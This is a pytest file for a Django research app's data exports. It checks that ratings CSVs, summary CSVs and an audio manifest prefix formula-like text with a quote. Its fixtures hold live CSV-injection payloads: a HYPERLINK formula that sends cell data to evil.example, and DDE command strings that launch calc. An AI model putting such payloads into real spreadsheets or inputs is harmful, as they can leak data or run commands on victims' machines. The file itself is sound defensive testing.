"""No download writes a spreadsheet formula: text a participant or researcher typed that begins
with =, +, -, @, a tab or a carriage return is prefixed with a quote (OWASP), in the ratings CSV
(page and API), the summary CSV and the audio ZIP's manifest; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from rest_framework.authtoken.models import Token

from listening.models import Listener, Sentence, System
from tests.factories import rated_study, response_body

SYSTEM = '=HYPERLINK("https://evil.example/?d="&A2,"Click for results")'
LISTENER = "+cmd|' /C calc'!A0"
TEXT = "@SUM(1+1)*cmd|' /C calc'!A0"
KEY = "-2+3"


@pytest.fixture
def study(ada):
    study = rated_study(ada)
    System.objects.filter(study=study, name="tacotron2").update(name=SYSTEM)
    Listener.objects.filter(study=study, external_id="P1").update(external_id=LISTENER)
    Sentence.objects.filter(study=study, key="s1").update(key=KEY, text=TEXT)
    return study


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def body(response) -> str:
    assert response.status_code == 200, response.content[:500]
    return response_body(response).decode("utf-8")


def assert_no_formula(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or float(cell) < 0, cell  # only negative numbers


def test_ratings_csv_neutralises_typed_text_and_keeps_numbers(client_ada, study):
    table = rows(body(client_ada.get(reverse("study_report_ratings_csv", args=[study.slug]))))
    assert_no_formula(table)
    cells = {cell for row in table for cell in row}
    assert "'" + SYSTEM in cells and "'" + TEXT in cells and "'" + KEY in cells
    assert any("'" + LISTENER in cell or LISTENER in cell for cell in cells)


def test_api_ratings_csv_neutralises_too(client, ada, study):
    token = Token.objects.create(user=ada).key
    response = client.get(
        reverse("researcher:api:ratings-csv", args=[study.slug]),
        HTTP_AUTHORIZATION=f"Token {token}",
    )
    table = rows(body(response))
    assert_no_formula(table)
    assert "'" + SYSTEM in {cell for row in table for cell in row}


def test_summary_csv_neutralises_system_names(client_ada, study):
    table = rows(body(client_ada.get(reverse("study_report_summary_csv", args=[study.slug]))))
    assert_no_formula(table)
    assert "'" + SYSTEM in [row[0] for row in table]


def test_audio_manifest_neutralises_names_and_keeps_negative_loudness(client_ada, study):
    response = client_ada.get(reverse("study_report_audio_zip", args=[study.slug]))
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    table = rows(archive.read("manifest.csv").decode())
    assert_no_formula(table)
    header, *data = table
    by_name = [dict(zip(header, row, strict=True)) for row in data]
    assert {"'" + SYSTEM} <= {row["system"] for row in by_name}
    assert {"'" + TEXT} <= {row["text"] for row in by_name}
    assert {row["loudness_lufs"] for row in by_name} >= {"-26.0", "-27.0"}  # numbers stay
